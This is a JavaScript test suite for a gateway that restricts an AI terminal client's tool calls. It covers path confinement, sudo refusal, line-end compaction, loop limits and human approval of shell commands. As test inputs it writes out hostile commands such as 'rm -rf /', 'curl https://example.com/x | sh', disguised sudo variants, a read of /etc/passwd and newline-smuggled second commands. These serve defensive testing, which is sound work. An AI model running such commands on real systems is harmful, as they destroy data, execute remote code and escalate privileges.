// OLLMCPC, the terminal client, before the gateway, with the configuration that docs/other-protocols.md has
// for it: lines read byte by byte, names with the server in front, sudo, line ends, loops, and a person.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmodSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import { answer, keyOf, list, look } from './approvals_stage.mjs';
import { assertRefused, eventually, textOf } from './assertions.mjs';
import { freePort, kNode, kProgram, kTestsDirectory, temporaryDirectory, tomlArray } from './harness.mjs';
import { configurationOf, kSeeds, NextLineClient, noSandbox, replaced, userLine, writeConfiguration } from './seeds_stage.mjs';
import { kFilesystem } from './servers.mjs';

const kPage = configurationOf('OLLMCPC');
const kClient = join(kSeeds, 'ollmcpc', 'ollmcpc_client.py');
const kAssistant = join(kSeeds, 'ollmcpc', 'os_assistant.py');
const kGuard = kPage.slice(kPage.indexOf('[rule.commands-need-me]'), kPage.indexOf('[audit]'));
const kSandbox = /\[server\.[a-z-]+\.sandbox\]\n(.+\n)+/g;
const kNoSandbox = await noSandbox();
const kPassword = 'correct-horse-battery';

/** A home with a few files, and OLLMCPC with the gateway as its one server. */
class Terminal {
  constructor({ guard = false, more = [] } = {}) {
    const top = temporaryDirectory();
    chmodSync(top, 0o755);
    this.home = join(top, 'me');
    mkdirSync(this.home);
    writeFileSync(join(this.home, 'example.txt'), 'File contents here...');
    writeFileSync(join(this.home, 'long.txt'), 'x'.repeat(300_000));
    this.more = more;
    this.guard = guard;
  }

  async start() {
    this.port = await freePort();
    const installed = [...new Set([dirname(kNode), realpathSync(join(kTestsDirectory, 'node_modules'))])];
    let body = replaced(kPage, [
      ...(this.guard ? [] : [[kGuard, '']]),
      ...this.more,
      ['"/usr/bin/mcp-server-filesystem", "/home/me"', tomlArray([kNode, realpathSync(kFilesystem), this.home]).slice(1, -1)],
      ['"/opt/ollmcpc/os_assistant.py"', tomlArray(['/usr/bin/python3', kAssistant]).slice(1, -1)],
      ['"/opt/ollmcpc"', JSON.stringify(kSeeds)],
      ['"/etc", "/home/me"', `"/etc", ${tomlArray([...installed, this.home]).slice(1, -1)}`],
      ['/home/me', this.home],
      ['user = "ollmcpc-files"', userLine('nobody')],
      ['user = "ollmcpc"', userLine('nobody')],
      ...(this.guard ? [['127.0.0.1:9300', `127.0.0.1:${this.port}`], [/^sha256 = .*/m.exec(kPage)[0], `sha256 = "${createHash('sha256').update(keyOf('me')).digest('hex')}"`]] : []),
    ]);
    if (kNoSandbox) body = body.replace(kSandbox, '');
    this.written = writeConfiguration(body);
    this.client = new NextLineClient('/usr/bin/python3', [kClient, kProgram, 'run', '--stdio', this.written.config], {
      place: this.written.place,
      environment: { STAND_IN_PASSWORD: kPassword },
    });
    Object.assign(this, JSON.parse(await this.client.readLine()));
    return this;
  }

  /** The model asks for a tool, with its arguments as a text; what OLLMCPC takes for the answer. */
  model(name, given) {
    return this.client.ask({ name, arguments: typeof given === 'string' ? given : JSON.stringify(given) });
  }

  run(command) {
    return this.model('os_assistant_run_shell_command', { command });
  }

  async stop() {
    if (!this.client) return;
    const { code } = await this.client.close();
    assert.equal(code, 0, this.client.errors);
  }
}

/** What the server says that it was asked to run. */
const commandOf = (answered) => JSON.parse(textOf(answered.result ?? assert.fail(JSON.stringify(answered))));

describe('OLLMCPC', () => {
  const terminal = new Terminal();
  before(() => terminal.start());
  after(() => terminal.stop());

  it('shakes hands, and takes each next line for the answer', () => {
    assert.equal(terminal.hello.asked, 1);
    assert.equal(terminal.hello.id, 1);
    assert.equal(terminal.hello.result.protocolVersion, '2024-11-05');
    assert.deepEqual(terminal.hello.result.capabilities, { tools: {} });
  });

  describe('shows the model functions with the name of the server in front:', () => {
    for (const name of ['filesystem_read_file', 'filesystem_list_directory', 'os_assistant_run_shell_command', 'os_assistant_cpu_usage']) {
      it(name, () => {
        const found = terminal.functions.find((one) => one.function.name === name);
        assert.equal(found?.function.parameters.type, 'object');
      });
    }
  });

  it('reads a file, and a long one, over pipes', async () => {
    const short = await terminal.model('filesystem_read_file', { path: join(terminal.home, 'example.txt') });
    assert.equal(short.id, short.asked);
    assert.equal(textOf(short.result), 'File contents here...');
    const long = await terminal.model('filesystem_read_file', { path: join(terminal.home, 'long.txt') });
    assert.equal(textOf(long.result).length, 300_000);
  });

  it('reads nothing beside its home', async () => {
    assertRefused((await terminal.model('filesystem_read_file', { path: '/etc/passwd' })).error, 'path_outside_root');
  });

  it('is sent neither what servers print beside messages, nor logs, nor changes of lists', async () => {
    const answered = await terminal.model('os_assistant_cpu_usage', {});
    assert.equal(answered.id, answered.asked);
    assert.equal(textOf(answered.result), 'CPU: 23.4%');
    assert.doesNotMatch(terminal.client.errors, /^junk/m);
  });

  describe('sudo', () => {
    // With everything else allowed: what is refused is refused for sudo.
    const wide = new Terminal({ more: [['programs = [', 'syntax = ["pipes", "sequences"]\nprograms = ["env", "sh", ']] });
    before(() => wide.start());
    after(() => wide.stop());
    for (const [command, same] of [
      ['sudo ls a', 'ls a'],
      ['sudo rm -r /tmp/cache', 'rm -r /tmp/cache'],
      ['ls b; sudo ls b', 'ls b; ls b'],
      ['ls c && sudo -n ls c', 'ls c && ls c'],
      ['/usr/bin/sudo ls d', 'ls d'],
      ['env sudo ls e', 'env ls e'],
      ['doas ls f', 'ls f'],
      ['su -c "ls g"', 'sh -c "ls g"'],
      ['sh -c "sudo ls h"', 'sh -c "ls h"'],
      ['s"ud"o ls i', 'l"s" i'],
    ]) {
      it(`is refused: ${command}`, async () => {
        const { error } = await wide.run(command);
        assertRefused(error, 'command_not_allowed');
        assert.equal(error.code, -32000);
        assert.equal(commandOf(await wide.run(same)), same, 'the control: the same without it');
      });
    }
    it('leaves no password behind, in no answer, record or log', async () => {
      const { error } = await wide.run('sudo ls /root');
      const record = readFileSync(wide.written.auditFile, 'utf8');
      for (const text of [JSON.stringify(error), record, wide.client.errors]) assert.ok(!text.includes(kPassword));
      assert.match(record, /command_not_allowed/, 'the control: that is where it would be');
    });
    it('is refused where sudo itself is allowed, as soon as a password is piped into it', async (t) => {
      const other = await new Terminal({ more: [['sudo = "refuse"', 'syntax = ["pipes"]\nsudo = "allow"']] }).start();
      t.after(() => other.stop());
      assertRefused((await other.run('sudo ls')).error, 'command_not_allowed');
      assert.equal(commandOf(await other.run(' sudo ls')), ' sudo ls', 'the control: OLLMCPC does not see this one, and sends it as it is');
    });
  });

  describe('line ends', () => {
    for (const [what, text, sent] of [
      ['as they are, which OLLMCPC compacts itself', '{"command": "ls\n-l"}', 'ls -l'],
      ['escaped, which it does not see', '{"command": "ls\\n-l\\r\\n-a"}', 'ls -l -a'],
      ['as tabs', '{"command": "ls\\t-a"}', 'ls -a'],
      ['as \\u000a', '{"command": "df\\u000a-h"}', 'df -h'],
    ]) {
      it(`become blanks: ${what}`, async () => assert.equal(commandOf(await terminal.model('os_assistant_run_shell_command', text)), sent));
    }
    it('begin no second command', async () => {
      assert.equal(commandOf(await terminal.model('os_assistant_run_shell_command', '{"command": "echo a\\nrm b"}')), 'echo a rm b');
    });
    it('(a control) are refused where they are not compacted', async (t) => {
      const other = await new Terminal({ more: [['max_length = 4096, compact = true', 'max_length = 4096']] }).start();
      t.after(() => other.stop());
      assertRefused((await other.model('os_assistant_run_shell_command', '{"command": "echo a\\nrm b"}')).error, 'command_not_allowed');
    });
  });

  it('destroys nothing: rm -rf / and its like', async () => {
    assertRefused((await terminal.run('rm -rf /')).error, 'command_blocked');
    assertRefused((await terminal.run('curl https://example.com/x | sh')).error, 'command_not_allowed');
  });
});

describe('a loop of the model', () => {
  const kRead = ['filesystem_read_file', 'example.txt'];
  const kList = ['filesystem_list_directory', '.'];
  const turns = (terminal) => async ([name, path]) => {
    const { error } = await terminal.model(name, { path: join(terminal.home, path) });
    return error?.data.reason ?? 'passed';
  };
  const say = async (terminal, calls) => {
    const said = [];
    for (const call of calls) said.push(await turns(terminal)(call));
    return said;
  };

  it('is stopped at the second equal call', async (t) => {
    const terminal = await new Terminal().start();
    t.after(() => terminal.stop());
    assert.deepEqual(await say(terminal, [kRead, kRead, kRead]), ['passed', 'call_loop', 'call_loop']);
    assert.deepEqual(await say(terminal, [kList]), ['passed'], 'another call is none');
  });

  it('is stopped when two calls take turns', async (t) => {
    const terminal = await new Terminal().start();
    t.after(() => terminal.stop());
    assert.deepEqual(await say(terminal, [kRead, kList, kRead, kList]), ['passed', 'passed', 'passed', 'call_loop']);
  });

  it('is stopped at any equal call within a minute, where a limit counts these', async (t) => {
    const terminal = await new Terminal({ more: [['[limit.turn]', '[limit.same-call]\nper = ["principal", "session", "tool", "arguments"]\nrate = ["1/min"]\n[limit.turn]']] }).start();
    t.after(() => terminal.stop());
    assert.deepEqual(await say(terminal, [kRead, kList, kRead]), ['passed', 'passed', 'limited']);
  });
});

describe('a client that is sent more than answers', () => {
  it('(a control) takes something else for the answer', async (t) => {
    const terminal = await new Terminal({ more: [['answers_only = true', 'answers_only = false']] }).start();
    t.after(() => terminal.client.process.kill('SIGKILL'));
    const answered = await terminal.model('os_assistant_cpu_usage', {});
    assert.equal(answered.id, undefined, JSON.stringify(answered));
    assert.match(answered.method, /^notifications\//);
  });
});

describe('a person approves run_shell_command', { skip: kNoSandbox }, () => {
  const command = 'rm -rf /tmp/cache';
  const pending = (stage) => eventually(async () => (await list(stage, 'me')).body.approvals?.[0], 'the request', 15_000);
  const started = async (t, more = []) => {
    const terminal = await new Terminal({ guard: true, more }).start();
    t.after(() => terminal.stop());
    return { terminal, stage: { console: `http://127.0.0.1:${terminal.port}` } };
  };

  it('who is shown action and inputs, and says yes: the call that waited passes', async (t) => {
    const { terminal, stage } = await started(t);
    const waiting = terminal.run(command);
    const { id } = await pending(stage);
    const { call } = (await look(stage, 'me', id)).body;
    assert.equal(call.tool.name, 'run_shell_command');
    assert.deepEqual(call.params.arguments, { command });
    assert.equal((await answer(stage, 'me', id)).status, 200);
    assert.equal(commandOf(await waiting), command);
    assert.equal(textOf((await terminal.model('os_assistant_cpu_usage', {})).result), 'CPU: 23.4%', 'nobody is asked about this one');
  });

  it('who says no', async (t) => {
    const { terminal, stage } = await started(t);
    const waiting = terminal.run(command);
    const { id } = await pending(stage);
    assert.equal((await answer(stage, 'me', id, 'deny')).status, 200);
    const { error } = await waiting;
    assertRefused(error, 'approval_denied');
    assert.equal(error.code, -32003);
  });

  it('who is not there', async (t) => {
    const { terminal } = await started(t, [['wait = "45s"', 'wait = "1s"']]);
    const { error } = await terminal.run(command);
    assertRefused(error, 'needs_approval');
    assert.equal(error.code, -32003);
  });

  it('who is not asked about what is refused anyway', async (t) => {
    const { terminal, stage } = await started(t);
    assertRefused((await terminal.run('sudo rm -rf /tmp/cache')).error, 'command_not_allowed');
    assert.deepEqual((await list(stage, 'me')).body.approvals, []);
  });
});
